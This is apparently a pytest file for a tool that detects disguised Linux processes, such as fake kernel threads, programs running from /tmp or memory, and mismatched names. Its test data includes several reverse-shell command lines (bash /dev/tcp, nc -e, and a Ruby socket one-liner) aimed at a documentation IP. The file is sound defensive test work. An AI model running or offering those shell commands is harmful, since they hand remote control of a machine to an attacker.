"""Names that are not a process's own, and all that only looks alike."""

from __future__ import annotations

import pytest

from publisher.ledger.naming.disguises import disguise_of
from publisher.ledger.naming.names import Namer

NAMER = Namer()
INTERPRETERS = NAMER.programs.interpreters.keys() | NAMER.programs.shells


def disguise(words: str, comm: str, link: str) -> str:
    split = [words] if NAMER.describe([words], comm).titled else words.split()
    name = NAMER.describe(split, comm)
    return disguise_of(split, comm, link, INTERPRETERS, titled=name.titled)


DISGUISES = [
    ("init", "init", "/var/www/nextjs/ttttt", "calls itself init, is ttttt"),
    (
        "bash -c bash -i >& /dev/tcp/192.0.2.7/9090 0>&1",
        "bash",
        "/usr/bin/bash",
        "gives a shell to another machine",
    ),
    ("nc -e /bin/sh 192.0.2.7 4444", "nc", "/usr/bin/nc", "gives a shell to another machine"),
    (
        "ruby -rsocket -e c=TCPSocket.new('x',1);IO.popen(c.gets)",
        "ruby",
        "/usr/bin/ruby",
        "gives a shell to another machine",
    ),
    ("./kauditd0", "kauditd0", "/tmp/kauditd0", "calls itself a kernel thread, and is none"),
    ("kswapd0", "kswapd0", "/usr/bin/kswapd0", "calls itself a kernel thread, and is none"),
    ("[kworker/0:2]", "xmr", "/usr/bin/xmr", "calls itself a kernel thread, and is none"),
    ("[kthreadd]", "perl", "/usr/bin/perl", "calls itself a kernel thread, and is none"),
    ("kworker", "kworker/0:2", "", "calls itself a kernel thread, and is none"),
    ("-bash", "-bash", "/usr/bin/-bash", "its file is called -bash, as if it were a login shell"),
    ("rsync", "rsync", "/usr/bin/perl", "calls itself rsync, is perl"),
    ("rsync", "xz", "/usr/bin/xz", "calls itself rsync, is xz"),
    ("nginx: worker process", "nginx: worker p", "/usr/bin/perl", "calls itself nginx, is perl"),
    ("postgres: writer", "postgres: write", "/usr/bin/perl", "calls itself postgres, is perl"),
    ("sshd: alice@pts/0", "sshd", "/usr/bin/python3.11", "calls itself sshd, is python"),
    ("/usr/sbin/sshd -D", "python3", "/usr/bin/python3.11", "calls itself sshd, is python"),
    ("sshd", "sshd", "/tmp/sshd", "calls itself sshd, runs from /tmp"),
    ("cron", "cron", "/dev/shm/cron", "calls itself cron, runs from /dev/shm"),
    ("sshd", "sshd", "/root/.sshd", "runs from a hidden file (/root/.sshd)"),
    ("x", "x", "/tmp/.X11-unix/.x/x", "runs from a hidden folder (/tmp/.X11-unix/.x)"),
    ("x", "x", "/var/tmp/.ladyg0g0/x", "runs from a hidden folder (/var/tmp/.ladyg0g0)"),
    ("x", "x", "/usr/lib/.cache-x/x", "runs from a hidden folder (/usr/lib/.cache-x)"),
    ("x", "x", "/home/bob/.../x", "runs from a hidden folder (/home/bob/...)"),
    ("x", "x", "/memfd:x (deleted)", "runs from memory, without a file"),
    ("x", "x", "/memfd: (deleted)", "runs from memory, without a file"),
    ("kinsing", "kinsing", "/tmp/kinsing (deleted)", "its program, in /tmp, was deleted"),
    ("x", "x", "/dev/shm/a/x (deleted)", "its program, in /dev/shm/a, was deleted"),
]


@pytest.mark.parametrize(("words", "comm", "link", "said"), DISGUISES)
def test_disguises(words: str, comm: str, link: str, said: str) -> None:
    assert said in disguise(words, comm, link)


NORMAL = [
    ("/sbin/init splash", "init", "/usr/lib/systemd/systemd"),
    ("init", "init", "/usr/bin/catatonit"),
    ("bash -c echo > /dev/tcp/db/5432", "bash", "/usr/bin/bash"),
    ("nc -l -p 9000", "nc", "/usr/bin/nc.openbsd"),
    ("/usr/bin/rsync -a x y", "rsync", "/usr/bin/rsync"),
    ("-bash", "bash", "/usr/bin/bash"),
    ("-sh", "sh", "/usr/bin/dash"),
    ("/bin/sh -c x", "sh", "/usr/bin/bash"),
    ("top", "top", "/bin/busybox"),
    ("cat x", "cat", "/usr/bin/coreutils"),
    ("ls", "ls", "/system/bin/toybox"),
    ("/sbin/init", "systemd", "/usr/lib/systemd/systemd"),
    ("/sbin/init", "init", "/usr/lib/systemd/systemd"),
    ("(sd-pam)", "(sd-pam)", "/usr/lib/systemd/systemd"),
    ("/lib/systemd/systemd-udevd", "systemd-udevd", "/usr/bin/udevadm"),
    ("/usr/sbin/mysqld", "mysqld", "/usr/sbin/mariadbd"),
    ("/usr/sbin/httpd -D", "httpd", "/usr/sbin/apache2"),
    ("vi x", "vi", "/usr/bin/vim.basic"),
    ("vim x", "vim", "/usr/bin/vim.basic"),
    ("awk x", "awk", "/usr/bin/mawk"),
    ("java -jar x.jar", "java", "/usr/lib/jvm/java-17/bin/java"),
    ("sendmail: accepting", "sendmail", "/usr/sbin/sendmail.sendmail"),
    ("/usr/bin/perl /usr/sbin/rsync-backup", "rsync-backup", "/usr/bin/perl"),
    ("/bin/sh /usr/local/bin/rsync -a", "rsync", "/usr/bin/dash"),
    ("/usr/bin/perl /usr/sbin/amavisd", "amavisd", "/usr/bin/perl"),
    ("amavisd (ch5-avail)", "amavisd (ch5-av", "/usr/bin/perl"),
    ("/usr/bin/python3 /usr/bin/unattended-upgrade", "unattended-upgr", "/usr/bin/python3.11"),
    ("[celeryd: celery@h:MainProcess]", "python3", "/usr/bin/python3.11"),
    ("nginx: worker process", "nginx", "/usr/sbin/nginx"),
    ("postgres: walwriter", "postgres", "/usr/lib/postgresql/15/bin/postgres"),
    ("redis-server *:6379", "redis-server", "/usr/bin/redis-check-rdb"),
    ("nginx: worker process", "nginx", "/usr/sbin/nginx (deleted)"),
    ("/home/bob/app/server", "server", "/home/bob/app/server (deleted)"),
    ("/tmp/.mount_appX/usr/bin/app", "app", "/tmp/.mount_appX/usr/bin/app"),
    ("/proc/self/exe --type=x", "exe", "/opt/google/chrome/chrome"),
    ("runc init", "runc:[2:INIT]", "/memfd:runc_cloned:/proc/self/exe (deleted)"),
    ("/nix/store/a-foo/bin/.foo-wrapped", ".foo-wrapped", "/nix/store/a-foo/bin/.foo-wrapped"),
    ("python x.py", "python", "/home/bob/.pyenv/versions/3.11/bin/python3.11"),
    ("/srv/app/.venv/bin/python x.py", "python", "/usr/bin/python3.11"),
    ("/root/.cargo/bin/rg x", "rg", "/root/.cargo/bin/rg"),
    ("/tmp/go-build12/b001/exe/main", "main", "/tmp/go-build12/b001/exe/main (deleted)"),
    ("/tmp/a.out", "a.out", "/tmp/a.out"),
    ("nginx: worker process", "nginx", "/usr/bin/qemu-aarch64-static"),
    ("/usr/bin/bash x", "bash", "/lib64/ld-linux-x86-64.so.2"),
    ("C:\\x\\java.exe", "java.exe", "/usr/bin/wine64-preloader"),
    ("rsync", "rsync", ""),
    ("bash", "bash", ""),
    ("/usr/bin/docker-proxy -proto tcp", "docker-proxy", "/usr/bin/docker-proxy"),
    ("sudo -u bob x", "sudo", "/usr/bin/sudo"),
    ("Xorg :0", "Xorg", "/usr/lib/xorg/Xorg"),
    ("sshd: bob [priv]", "sshd-session", "/usr/lib/openssh/sshd-session"),
    ("/usr/bin/java -jar x", "java", "/opt/java/openjdk/bin/java"),
    ("migration", "migration", "/opt/app/migration"),
    ("master", "master", "/opt/app/worker"),
    ("/init", "init", "/usr/bin/s6-svscan"),
    ("/home/u/.local/share/Steam/steam", "steam", "/home/u/.local/share/Steam/steam"),
    ("factorio", "factorio", "/home/u/.factorio/bin/factorio"),
]


@pytest.mark.parametrize(("words", "comm", "link"), NORMAL)
def test_what_is_normal(words: str, comm: str, link: str) -> None:
    assert not disguise(words, comm, link)
